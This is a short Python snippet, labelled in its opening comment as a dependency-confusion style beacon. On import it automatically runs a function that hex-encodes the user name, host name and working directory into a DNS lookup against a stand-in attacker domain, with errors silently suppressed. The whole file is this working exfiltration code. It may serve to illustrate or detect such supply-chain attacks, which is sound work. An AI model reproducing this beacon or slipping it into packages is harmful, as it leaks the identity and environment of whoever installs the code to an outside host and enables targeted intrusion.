# Attack pattern: dependency-confusion style beacon: user, host name and working directory hex-encoded into a DNS lookup.
import getpass
import os
import socket


def _beacon():
    label = f"{getpass.getuser()}|{socket.gethostname()}|{os.getcwd()}".encode().hex()[:60]
    try:
        socket.getaddrinfo(label + ".dc.example.invalid", 80)
    except OSError:
        pass


_beacon()
